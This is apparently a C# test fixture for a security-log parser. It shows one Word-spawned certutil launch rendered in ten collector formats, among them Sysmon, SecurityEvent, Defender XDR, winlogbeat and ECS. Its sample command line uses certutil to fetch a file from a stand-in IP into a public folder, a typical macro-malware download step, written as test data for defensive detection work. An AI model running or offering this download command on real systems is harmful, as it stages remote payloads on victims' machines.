namespace Changeling.Core.Tests.Events;

/// <summary>One launch, certutil started by Word, as seven collectors would send it.</summary>
internal static class GoldenLaunch
{
    public const string Sid = "S-1-5-21-2841930177-905518364-3317206650-1108";

    private const string Child = """C:\\Windows\\System32\\certutil.exe""";
    private const string CommandLine = """certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\\Users\\Public\\r.txt""";
    private const string Parent = """C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE""";
    private const string ParentCommandLine =
        @"\""C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\"" /n \""C:\\Users\\mara.lind\\Downloads\\offer.docm\""";

    private const string SysmonFields = $$"""
        "RuleName": "-", "UtcTime": "2026-11-03 09:14:27.384",
        "ProcessGuid": "{8d3f21b6-5c43-690a-9b01-000000002f00}", "ProcessId": "6284",
        "Image": "{{Child}}", "OriginalFileName": "CertUtil.exe", "CommandLine": "{{CommandLine}}",
        "User": "CORP\\mara.lind", "IntegrityLevel": "Medium",
        "Hashes": "SHA1=1F2306A3B3A5E04D7BD914991986A5D8C23EF135,MD5=C7544986F4347555684B52FEF40DE584",
        "ParentProcessGuid": "{8d3f21b6-5c1f-690a-8c01-000000002f00}", "ParentProcessId": "9120",
        "ParentImage": "{{Parent}}", "ParentCommandLine": "{{ParentCommandLine}}", "ParentUser": "CORP\\mara.lind"
        """;

    private const string SecurityFields = $$"""
        "SubjectUserSid": "{{Sid}}", "SubjectUserName": "mara.lind", "SubjectDomainName": "CORP", "SubjectLogonId": "0x5a3c1",
        "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
        "NewProcessId": "0x188c", "NewProcessName": "{{Child}}", "CommandLine": "{{CommandLine}}",
        "ProcessId": "0x23a0", "ParentProcessName": "{{Parent}}",
        "TokenElevationType": "%%1938", "MandatoryLabel": "S-1-16-8192"
        """;

    public const string DefenderRow = $$"""
        "Timestamp": "2026-11-03T09:14:27.3912206Z", "DeviceId": "4be1c07a92d3f5688e0a1b7c3d9f24506a7b8c1d",
        "DeviceName": "ws-0417.corp.example", "ActionType": "ProcessCreated", "ReportId": 48213,
        "FileName": "certutil.exe", "FolderPath": "{{Child}}", "ProcessId": 6284, "ProcessCommandLine": "{{CommandLine}}",
        "ProcessCreationTime": "2026-11-03T09:14:27.3840000Z", "ProcessVersionInfoOriginalFileName": "CertUtil.exe",
        "SHA1": "1f2306a3b3a5e04d7bd914991986a5d8c23ef135", "SHA256": null, "MD5": "c7544986f4347555684b52fef40de584",
        "ProcessIntegrityLevel": "Medium", "ProcessTokenElevation": "TokenElevationTypeLimited",
        "AccountDomain": "corp", "AccountName": "mara.lind", "AccountSid": "{{Sid}}",
        "InitiatingProcessAccountName": "somebody.else", "InitiatingProcessAccountDomain": "corp",
        "InitiatingProcessFileName": "WINWORD.EXE", "InitiatingProcessId": 9120,
        "InitiatingProcessFolderPath": "c:\\program files\\microsoft office\\root\\office16\\winword.exe",
        "InitiatingProcessCommandLine": "{{ParentCommandLine}}",
        "InitiatingProcessCreationTime": "2026-11-03T09:13:51.0127743Z",
        "InitiatingProcessParentFileName": "explorer.exe", "InitiatingProcessParentId": 4412
        """;

    public static IReadOnlyDictionary<string, string> Messages { get; } = new Dictionary<string, string>
    {
        ["defender-xdr"] = $$"""
            {"records": [{"time": "2026-11-03T09:17:58.119Z", "operationName": "Publish",
              "category": "AdvancedHunting-DeviceProcessEvents", "properties": { {{DefenderRow}} } }]}
            """,
        ["defender-table"] = $$"""
            {"records": [{"TimeGenerated": "2026-11-03T09:14:27.39Z", "Type": "DeviceProcessEvents", {{DefenderRow}} }]}
            """,
        ["flat-windows (SecurityEvent)"] = $$"""
            {"records": [{"TimeGenerated": "2026-11-03T09:14:27.3840000Z", "Computer": "ws-0417.corp.example", "Channel": "Security",
              "EventSourceName": "Microsoft-Windows-Security-Auditing", "EventID": 4688, "EventRecordId": "9914402",
              "Account": "CORP\\mara.lind", "Process": "certutil.exe", "Type": "SecurityEvent", {{SecurityFields}} }]}
            """,
        ["flat-windows (NXLog)"] = $$"""
            {"EventTime": "2026-11-03 10:14:27", "Hostname": "ws-0417.corp.example", "EventID": 1,
             "SourceName": "Microsoft-Windows-Sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational", "RecordNumber": 1184421,
             "ExecutionProcessID": 3188, "ProcessID": 3188, "Domain": "NT AUTHORITY", "AccountName": "SYSTEM", "UserID": "S-1-5-18",
             {{SysmonFields}}, "host": "wec01.corp.example", "@timestamp": "2026-11-03T09:14:31.220Z"}
            """,
        ["la-windowsevent"] = $$"""
            {"TimeGenerated": "2026-11-03T09:14:27.3870000Z", "Provider": "Microsoft-Windows-Sysmon",
             "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws-0417.corp.example", "EventID": 1,
             "SystemUserId": "S-1-5-18", "Type": "WindowsEvent", "EventData": { {{SysmonFields}} } }
            """,
        ["winlogbeat"] = $$"""
            {"@timestamp": "2026-11-03T09:14:27.387Z", "host": {"name": "wec01.corp.example"},
             "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon"}, "process": {"name": "filled-by-the-agent.exe"},
             "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "provider_name": "Microsoft-Windows-Sysmon", "event_id": "1",
               "record_id": 1184421, "computer_name": "ws-0417.corp.example", "process": {"pid": 3188},
               "user": {"identifier": "S-1-5-18", "name": "SYSTEM"}, "event_data": { {{SysmonFields}} } } }
            """,
        ["winlogbeat-6"] = $$"""
            {"@timestamp": "2026-11-03T09:14:27.384Z", "source_name": "Microsoft-Windows-Security-Auditing", "log_name": "Security",
             "event_id": 4688, "computer_name": "ws-0417.corp.example", "record_number": "9914402",
             "beat": {"hostname": "wec01"}, "process_id": 4, "event_data": { {{SecurityFields}} } }
            """,
        ["winevent-json"] = $$"""
            {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"} }, "EventID": 4688,
               "TimeCreated": {"#attributes": {"SystemTime": "2026-11-03T09:14:27.384102Z"} }, "EventRecordID": 9914402,
               "Channel": "Security", "Computer": "ws-0417.corp.example"}, "EventData": { {{SecurityFields}} } } }
            """,
        ["ecs"] = $$"""
            {"@timestamp": "2026-11-03T09:14:27.3840000Z",
             "event": {"id": "NqTg0bX6sW8hKQ1a++++1aZk", "category": ["process"], "type": ["start"], "action": "start"},
             "host": {"id": "e0a6d0a4-52f7-4c0c-9f0c-3d1b0b8f7a21", "name": "ws-0417.corp.example", "os": {"type": "windows"} },
             "user": {"domain": "CORP", "name": "mara.lind", "id": "{{Sid}}"},
             "process": {"name": "certutil.exe", "executable": "{{Child}}", "command_line": "{{CommandLine}}", "pid": 6284,
               "entity_id": "YjBjNDRmMGUtNjI4NA",
               "hash": {"md5": "c7544986f4347555684b52fef40de584", "sha1": "1f2306a3b3a5e04d7bd914991986a5d8c23ef135"},
               "pe": {"original_file_name": "CertUtil.exe"},
               "code_signature": {"exists": true, "status": "trusted", "trusted": true, "subject_name": "Microsoft Windows"},
               "Ext": {"token": {"integrity_level_name": "medium", "elevation_level": "limited"} },
               "parent": {"name": "WINWORD.EXE", "executable": "{{Parent}}", "command_line": "{{ParentCommandLine}}", "pid": 9120,
                 "entity_id": "YjBjNDRmMGUtOTEyMA"} } }
            """,
        ["ecs (dotted keys)"] = $$"""
            {"@timestamp": "2026-11-03T09:14:27.384Z", "event.id": "NqTg0bX6sW8hKQ1a++++1aZk", "event.category": "process",
             "event.type": "start", "host.name": "ws-0417.corp.example", "user.domain": "CORP", "user.name": "mara.lind",
             "user.id": "{{Sid}}", "process.executable": "{{Child}}", "process.command_line": "{{CommandLine}}", "process.pid": 6284,
             "process.pe.original_file_name": "CertUtil.exe", "process.Ext.token.integrity_level_name": "medium",
             "process.parent": {"executable": "{{Parent}}"}, "process.parent.command_line": "{{ParentCommandLine}}",
             "process.parent.pid": 9120}
            """,
    };

    /// <summary>The Sysmon row with its event data as a text that holds the JSON.</summary>
    public static string WithEventDataAsText => Messages["la-windowsevent"]
        .Replace($"{{ {SysmonFields} }}", System.Text.Json.JsonSerializer.Serialize($"{{{SysmonFields}}}"), StringComparison.Ordinal);
}
